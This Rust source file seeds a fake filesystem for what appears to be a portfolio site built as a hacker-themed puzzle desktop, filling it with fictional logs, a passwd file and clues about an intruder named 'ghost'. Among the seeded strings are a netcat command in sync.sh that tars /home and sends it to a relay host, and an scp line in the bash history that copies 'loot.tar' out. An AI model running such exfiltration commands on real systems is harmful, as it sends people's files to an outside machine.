//! The tree every session boots with.

use hexdesk_types::error::Result;

use crate::Vfs;
use crate::memory::MemoryVfs;

const FOLDERS: &[&str] = &[
    "/bin",
    "/etc/cron.d",
    "/opt/ghost",
    "/tmp",
    "/var/log",
    "/home/admin",
];

const FILES: &[(&str, &str)] = &[
    ("/etc/hostname", "hexdesk\n"),
    (
        "/etc/motd",
        "Welcome to hexdesk.\n\
         Unauthorized access is monitored. Or at least, it used to be.\n\
         Type 'help' to list commands.\n",
    ),
    (
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/sh\n\
         admin:x:1000:1000:Administrator:/home/admin:/bin/sh\n\
         guest:x:1001:1001:Guest:/home/guest:/bin/sh\n\
         ghost:x:1337:1337::/opt/ghost:/usr/sbin/nologin\n",
    ),
    ("/etc/hosts", "127.0.0.1 localhost\n10.0.13.37 relay.ghost.internal\n"),
    (
        "/etc/cron.d/backup",
        "# nightly backup\n\
         0 3 * * * ghost /opt/ghost/sync.sh --dest relay.ghost.internal\n",
    ),
    (
        "/var/log/auth.log",
        "Mar 02 03:12:44 hexdesk sshd[812]: Accepted password for admin from 10.0.13.37\n\
         Mar 02 03:12:51 hexdesk sudo: admin : TTY=pts/0 ; COMMAND=/usr/sbin/useradd ghost\n\
         Mar 02 03:13:09 hexdesk sshd[845]: Failed password for root from 10.0.13.37\n",
    ),
    (
        "/var/log/syslog",
        "Mar 02 03:00:01 hexdesk CRON[701]: (root) CMD (run-parts /etc/cron.daily)\n\
         Mar 02 03:14:02 hexdesk kernel: eth0 entered promiscuous mode\n",
    ),
    (
        "/var/log/kern.log",
        "Mar 02 03:14:02 hexdesk kernel: [ 4211.88] module ghostfs loaded (unsigned)\n",
    ),
    (
        "/opt/ghost/manifest.txt",
        "fragments: 4\nassemble with: FRAGMENT_1..FRAGMENT_4\nkey: ask the admin, nicely\n",
    ),
    ("/opt/ghost/sync.sh", "#!/bin/sh\ntar c /home | nc relay.ghost.internal 4444\n"),
    ("/home/admin/todo.txt", "- rotate the admin password\n- find out who 'ghost' is\n"),
];

/// Build the initial tree: system folders, logs, and the portfolio home
/// directory rooted at `home`.
pub fn seed_tree(home: &str) -> Result<MemoryVfs> {
    let mut vfs = MemoryVfs::new(home);
    for folder in FOLDERS {
        vfs.mkdir_all(folder)?;
    }
    for (path, content) in FILES {
        vfs.write_file(path, content)?;
    }

    vfs.mkdir_all(home)?;
    vfs.mkdir_all(&format!("{home}/projects"))?;
    vfs.write_file(
        &format!("{home}/README.txt"),
        "This desktop is a portfolio. Open the Resume app, browse ~/projects,\n\
         or poke around. Something on this machine is not what it seems.\n",
    )?;
    vfs.write_file(
        &format!("{home}/resume.txt"),
        "Systems engineer. Rust, networking, incident response.\n\
         See ~/projects for write-ups.\n",
    )?;
    vfs.write_file(
        &format!("{home}/projects/packet-lab.md"),
        "# Packet lab\nA capture viewer with protocol dissectors and a CTF track.\n",
    )?;
    vfs.write_file(
        &format!("{home}/projects/honeypot.md"),
        "# Honeypot\nA low-interaction SSH honeypot that logs credential sprays.\n",
    )?;
    vfs.write_file(
        &format!("{home}/.bash_history"),
        "ls -la\ncat /etc/passwd\nscp loot.tar ghost@10.0.13.37:/tmp\nhistory -c\n",
    )?;

    vfs.change_dir(home)?;
    log::debug!("vfs seeded with home {home}");
    Ok(vfs)
}
